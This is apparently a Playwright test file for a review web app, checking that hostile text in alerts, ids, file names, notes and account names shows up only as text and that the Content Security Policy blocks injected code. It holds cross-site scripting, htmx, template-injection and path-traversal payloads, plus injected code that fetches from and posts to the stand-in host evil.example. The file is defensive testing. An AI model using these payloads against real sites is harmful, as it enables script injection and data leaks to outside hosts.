"""Whatever residents and staff may write stays text: in alerts, ids, hints, names of files, notes and names."""

from dataclasses import dataclass
from datetime import UTC, datetime
from urllib.parse import quote

import pytest
from playwright.sync_api import expect

from cli.demo.alerts import read_demo_alerts
from cli.demo.photos import PhotoSource
from tests.browser.conftest import Visit
from tests.browser.installation import HASH, Installation
from tests.browser.scenes import unfold
from tests.browser.visitor import Visitor
from triage.review.order import returned_place
from triage.review.rules import DEFAULT_RULES, load_review_rules
from triage.staff import Role
from triage.store.review_records import NewReturn
from triage.taxonomy import load_taxonomy

SCRIPT = "<script>window.hacked=1</script>"
PICTURE = '"><img src=x onerror="window.hacked=1">'
TEXTS = (
    SCRIPT,
    PICTURE,
    "'><svg/onload=window.hacked=1>",
    "</textarea></title></script><body onload=window.hacked=1>",
    '<a href="javascript:window.hacked=1" data-key="enter" accesskey="s">accept</a>',
    '<form action="/review/sign-out" method="post" hx-post="/review/sign-out" hx-trigger="load"><button>x</form>',
    '<div hx-get="/review/help" hx-trigger="load" hx-target="#main" data-hx-on:load="window.hacked=1">x</div>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/">',
    '<link rel="stylesheet" href="http://evil.example/x.css"><iframe src="http://evil.example/"></iframe>',
    "{{ 7 * 7 }} {% include 'x' %} ${7*7} %(num)d %s %n \\u003cscript\\u003e &lt;b&gt; \N{RIGHT-TO-LEFT OVERRIDE}txet",
)
HOSTILE = " ".join(TEXTS)


@dataclass(frozen=True, slots=True)
class Hostile:
    """Alerts of somebody who means harm, and the account of one."""

    older: str
    newer: str
    name: str


@pytest.fixture(scope="module")
def hostile(desk: Installation) -> Hostile:
    """Two alerts at one place, with a photo, notes, a history; all of it hostile."""
    photo = next(filter(None, map(PhotoSource().photo, read_demo_alerts())))
    place = {"lat": 47.9, "lon": 4.7, "category_hint": PICTURE}
    older = desk.send(f"Lampadaire éteint rue Monge {HOSTILE}", id=f"{SCRIPT}/../'{PICTURE}", **place)
    place["lat"] += 0.00004
    newer = desk.send(
        f"Lampadaire éteint rue Monge {HOSTILE}",
        id=f"{PICTURE}?a=b&c#d%2e%2f/..",
        photos={f"{SCRIPT}.jpg": photo, f"../../{PICTURE}": photo},
        **place,
    )
    now, name = datetime.now(UTC), "<img/src=x/onerror=window.hacked=1>"
    rules = load_review_rules(DEFAULT_RULES, load_taxonomy(desk.settings.bundle / "taxonomy.yaml"))
    with desk.store() as store:
        store.add_account(name, PICTURE, Role.ADMINISTRATOR, HASH)
        store.link(newer, older)
        store.add_note(newer, SCRIPT, now, HOSTILE)
        store.add_return(NewReturn(newer, SCRIPT, PICTURE, HOSTILE, PICTURE, now), returned_place(now, rules))
        store.original(newer, PICTURE, "test")
    return Hostile(older, newer, name)


def path_of(alert: str) -> str:
    return f"/review/alerts/{quote(alert, safe='')}"


def unharmed(window: Visitor) -> None:
    """Nothing of what was written has become a part of the page."""
    page = window.page
    assert page.evaluate("window.hacked") is None
    assert page.url.startswith(f"{window.desk.base}/review")
    assert (
        page.evaluate("[...document.scripts].map(each => each.src).filter(src => !src.includes('/review/static/'))")
        == []
    )
    assert page.evaluate("document.querySelectorAll('iframe, base, meta[http-equiv], [onerror], [onload]').length") == 0
    assert page.evaluate("[...document.images].filter(each => each.src.endsWith('/x')).length") == 0
    assert page.evaluate("[...document.querySelectorAll('a[href^=javascript]')].length") == 0


def test_an_alert_shows_it_as_text_wherever_it_stands(visit: Visit, hostile: Hostile) -> None:
    window = visit(name=hostile.name)
    window.open(path_of(hostile.newer))
    window.settled()
    unfold(window)
    unharmed(window)
    assert window.alert_id() == " ".join(hostile.newer.split())
    for text in TEXTS[:3]:
        for place in ("#text", "#candidate-1 .candidate-text", "#history"):
            expect(window.find(place)).to_contain_text(text)
    expect(window.find("#member")).to_have_text(PICTURE)
    expect(window.find("#history")).to_contain_text(SCRIPT)
    assert "evil.example" not in " ".join(window.asked)
    # The names of files are kept nowhere.
    assert ".jpg" not in window.page.content()


def test_every_link_and_button_of_it_leads_where_it_says(visit: Visit, hostile: Hostile) -> None:
    window = visit(name=hostile.name)
    window.open(path_of(hostile.newer))
    window.settled()
    window.find("#open-1").click()
    expect(window.find("#looking")).to_be_visible()
    assert window.alert_id() == " ".join(hostile.older.split())
    unharmed(window)
    window.open(path_of(hostile.newer))
    window.settled()
    before = window.find("#history q").count()
    window.press("n")
    window.find("#note").fill(HOSTILE)
    window.find("#save-note").click()
    expect(window.find("#history q")).to_have_count(before + 1)
    expect(window.find("#history q").last).to_contain_text(PICTURE)
    unharmed(window)
    window.settled()
    window.press("2")
    window.press("Enter")
    expect(window.find(".alert-id")).not_to_have_text(hostile.newer)
    assert window.desk.history(hostile.newer)[-1].reviewer == hostile.name
    window.settled()
    window.press("u")
    expect(window.find("#history li.undone")).to_contain_text(hostile.name)
    unharmed(window)
    for number in (1, 2):
        answer = window.context.request.get(f"{window.desk.base}{path_of(hostile.newer)}/photos/{number}")
        assert (answer.status, answer.headers["content-type"]) == (200, "image/jpeg")


@pytest.mark.parametrize("path", ["/review", "/review/suspects", "/review/supervisor?weeks=4", "/review/help"])
def test_no_other_page_is_harmed(visit: Visit, hostile: Hostile, path: str) -> None:
    window = visit(name=hostile.name)
    window.open(path)
    unfold(window)
    window.page.wait_for_load_state("networkidle")
    unharmed(window)


def test_a_colleagues_hostile_name_is_text_on_the_page_of_what_they_hold(agent: Visitor, hostile: Hostile) -> None:
    alert = agent.desk.send("Bonjour, il y a un souci ici")
    with agent.desk.browserless(agent.desk.session(hostile.name)) as client:
        client.get(f"/review/alerts/{alert}")
    agent.take(alert)
    expect(agent.find("#held")).to_contain_text(hostile.name)
    unharmed(agent)


@pytest.mark.parametrize("text", TEXTS[:6])
def test_what_an_address_asks_for_is_never_repeated_as_markup(agent: Visitor, text: str) -> None:
    agent.expect(404)
    for path in (
        f"/review/alerts/{quote(text, safe='')}",
        f"/review/{quote(text, safe='')}",
        f"/review?after={quote(text, safe='')}",
        f"/review/supervisor/{quote(text, safe='')}?weeks={quote(text, safe='')}",
        f"/review/language/{quote(text, safe='')}?back={quote(text, safe='')}",
    ):
        agent.open(path)
        unharmed(agent)


def test_the_policy_stops_what_might_slip_through(agent: Visitor) -> None:
    """A second wall: were a hole found, no script that a page did not bring would run, and nothing would leave."""
    agent.tolerate("Content Security Policy")
    agent.expect(404)
    agent.play_host("http://evil.example", "window.hacked=1")
    answered: list[str] = []
    agent.context.on("response", lambda answer: answered.append(answer.url))
    agent.open("/review/help")
    agent.page.evaluate(
        """async () => {
            const box = document.createElement('div');
            document.body.append(box);
            box.innerHTML = `<img src="/review/static/none.png" onerror="window.hacked=1"><p style="color:red">x</p>
                <img src="http://evil.example/x.png"><a href="javascript:window.hacked=1" id="evil">x</a>
                <form action="http://evil.example/" method="post"><button id="leak">x</button></form>`;
            for (const source of [null, 'http://evil.example/x.js']) {
                const script = document.createElement('script');
                if (source) script.src = source; else script.textContent = 'window.hacked=1';
                box.append(script);
            }
            document.getElementById('evil').click();
            document.getElementById('leak').click();
            await fetch('http://evil.example/').catch(() => {});
        }"""
    )
    agent.page.wait_for_timeout(200)
    assert agent.page.evaluate("window.hacked") is None
    assert agent.path() == "/review/help"
    assert not [url for url in answered if "evil.example" in url]
